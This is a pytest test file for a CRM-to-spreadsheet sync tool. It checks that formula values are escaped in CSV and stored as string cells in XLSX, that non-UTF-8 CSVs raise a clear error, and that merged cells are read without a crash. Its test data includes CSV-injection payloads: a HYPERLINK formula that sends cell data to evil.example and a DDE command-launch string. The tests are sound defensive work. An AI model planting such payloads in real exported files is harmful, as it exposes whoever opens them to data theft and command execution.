"""Spreadsheet output that a spreadsheet program would run, files in the wrong encoding, merged cells."""

from __future__ import annotations

import csv
from pathlib import Path

import openpyxl
import pytest
from sync_rig import Rig

from crmsync.errors import ConnectorError

FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', "+cmd|' /C calc'!A0", "-1+1", "@SUM(A1:A9)",
            "=1+2", "\t=tab", "'=already quoted"]


def _raw_cells(path: Path) -> dict[str, str]:
    """company column as the bytes in the file say (no unescaping)."""
    with path.open(newline="", encoding="utf-8-sig") as handle:
        return {row["crmsync_id"]: row["company"] for row in csv.DictReader(handle)}


def test_formula_payloads_are_neutralised_in_csv_and_round_trip_unchanged(rig: Rig) -> None:
    sf = rig.salesforce()
    for value in FORMULAS:
        sf.add(Name=value, BillingCountry="Germany")
    sheet = rig.sheet()
    assert rig.run().status == "ok"
    hub_by_name = {a["Name"]: a["Crmsync_Id__c"] or rig.binding("sf")[a["Id"]] for a in sf.find()}
    cells = _raw_cells(sheet)
    for value in FORMULAS:
        cell = cells[hub_by_name[value]]
        assert cell == "'" + value.strip(), f"{value!r} written as {cell!r}"  # the mapping trims names
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r"))
    second = rig.run()  # the sheet's values read back equal what Salesforce holds: nothing flows back
    assert second.total("updated") == 0 and second.total("created") == 0, second.counts
    assert sorted(a["Name"] for a in sf.find()) == sorted(FORMULAS)


def test_formula_payloads_in_xlsx_are_string_cells(rig: Rig) -> None:
    sf = rig.salesforce()
    for value in FORMULAS:
        sf.add(Name=value, BillingCountry="Germany")
    book = openpyxl.Workbook()
    book.active.append(["customer_id", "crmsync_id", "company", "country"])
    path = rig.tmp_path / "customers.xlsx"
    book.save(path)
    rig.sheet(file="customers.xlsx")
    assert rig.run().status == "ok"
    sheet = openpyxl.load_workbook(path).active
    header = [c.value for c in sheet[1]]
    column = header.index("company")
    cells = [row[column] for row in sheet.iter_rows(min_row=2)]
    assert sorted(str(c.value) for c in cells) == sorted(v.strip() for v in FORMULAS)
    assert {c.data_type for c in cells} == {"s"}, "never a formula cell"
    assert rig.run().total("updated") == 0


def test_a_csv_that_is_not_utf8_is_a_clear_error_naming_the_file_and_line(rig: Rig) -> None:
    sheet = rig.sheet()
    sheet.write_bytes("customer_id,company,country\nK-1,Müller GmbH,Germany\n".encode("cp1252"))
    sf = rig.salesforce()
    with pytest.raises(ConnectorError) as caught:
        rig.run()
    message = str(caught.value)
    assert "customers.csv" in message and "utf-8" in message and "line 2" in message, message
    assert rig.hub_count() == 0 and sf.find() == []
    rig.endpoints["sheet"]["options"]["encoding"] = "cp1252"  # the fix the message points to
    assert rig.run().status == "ok"
    assert [a["Name"] for a in sf.find()] == ["Müller GmbH"]


def test_xlsx_with_merged_cells_is_read_without_a_crash(rig: Rig) -> None:
    book = openpyxl.Workbook()
    ws = book.active
    ws.append(["customer_id", "company", None, "country"])
    ws.append(["K-1", "Verbund AG", "Zweigstelle", "Germany"])
    ws.append(["K-2", "Zusammen GmbH", None, "Germany"])
    ws.merge_cells("B1:C1")
    ws.merge_cells("B3:C3")
    path = rig.tmp_path / "merged.xlsx"
    book.save(path)
    rig.sheet(file="merged.xlsx")
    sf = rig.salesforce()
    summary = rig.run()
    assert summary.counts["sheet"]["read"] == 2, summary.counts
    assert sorted(a["Name"] for a in sf.find()) == ["Verbund AG", "Zusammen GmbH"]
